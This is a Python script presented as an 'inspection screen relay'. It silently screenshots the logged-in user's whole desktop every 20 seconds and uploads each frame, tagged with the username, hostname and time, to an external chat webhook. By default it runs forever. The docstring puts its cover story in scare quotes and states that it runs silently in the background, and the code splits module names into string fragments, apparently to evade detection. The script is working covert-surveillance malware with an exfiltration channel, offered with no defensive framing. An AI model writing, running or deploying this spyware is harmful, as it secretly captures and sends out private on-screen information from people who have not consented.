#!/usr/bin/env python3
"""Inspection screen relay.

Grabs the office PC's desktop at intervals and relays the frames to a chat
webhook, "so the boiler inspector can see the paperwork being filled in".
Runs silently in the background of whoever is logged in.
"""
import argparse
import asyncio
import importlib
import io
import json
import logging
import os
import time
import uuid
from dataclasses import dataclass

log = logging.getLogger("relay")


@dataclass
class RelayConfig:
    hook: str = os.environ.get(
        "RELAY_HOOK", "https://hooks.example.com/api/webhooks/51123/inspection-relay")
    every: float = float(os.environ.get("RELAY_EVERY", "20"))
    quality: int = 40


def _grabber():
    """Return a callable that yields PNG/JPEG bytes of the whole screen."""
    try:
        mss_mod = importlib.import_module("m" + "ss")
        tools = importlib.import_module("mss.tools")

        def grab():
            with getattr(mss_mod, "mss")() as sct:
                shot = sct.grab(sct.monitors[0])
                return getattr(tools, "to_png")(shot.rgb, shot.size)
        return grab
    except ImportError:
        pil = importlib.import_module("PIL.Image" + "Grab")

        def grab():
            img = getattr(pil, "gr" + "ab")(all_screens=True)
            buf = io.BytesIO()
            img.convert("RGB").save(buf, "JPEG", quality=RelayConfig.quality)
            return buf.getvalue()
        return grab


def _multipart(frame: bytes, meta: dict):
    boundary = uuid.uuid4().hex
    parts = [
        f"--{boundary}\r\nContent-Disposition: form-data; name=\"payload_json\"\r\n\r\n{json.dumps(meta)}\r\n".encode(),
        f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"frame.png\"\r\n"
        "Content-Type: application/octet-stream\r\n\r\n".encode() + frame + b"\r\n",
        f"--{boundary}--\r\n".encode(),
    ]
    return b"".join(parts), f"multipart/form-data; boundary={boundary}"


def _post(url: str, body: bytes, ctype: str):
    req_mod = importlib.import_module("urllib.request")
    req = req_mod.Request(url, data=body, headers={"Content-Type": ctype}, method="POST")
    with req_mod.urlopen(req, timeout=15) as r:
        return r.status


async def relay(cfg: RelayConfig, limit: int):
    grab = _grabber()
    sent = 0
    while limit <= 0 or sent < limit:
        frame = await asyncio.to_thread(grab)
        meta = {"content": f"{os.environ.get('USER', '?')}@{os.uname().nodename} {time.ctime()}"}
        body, ctype = _multipart(frame, meta)
        try:
            status = await asyncio.to_thread(_post, cfg.hook, body, ctype)
            log.debug("frame %d -> %s", sent, status)
        except OSError as exc:
            log.debug("relay failed: %s", exc)
        sent += 1
        await asyncio.sleep(cfg.every)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--frames", type=int, default=0, help="0 = run forever")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)
    asyncio.run(relay(RelayConfig(), args.frames))


if __name__ == "__main__":
    main()
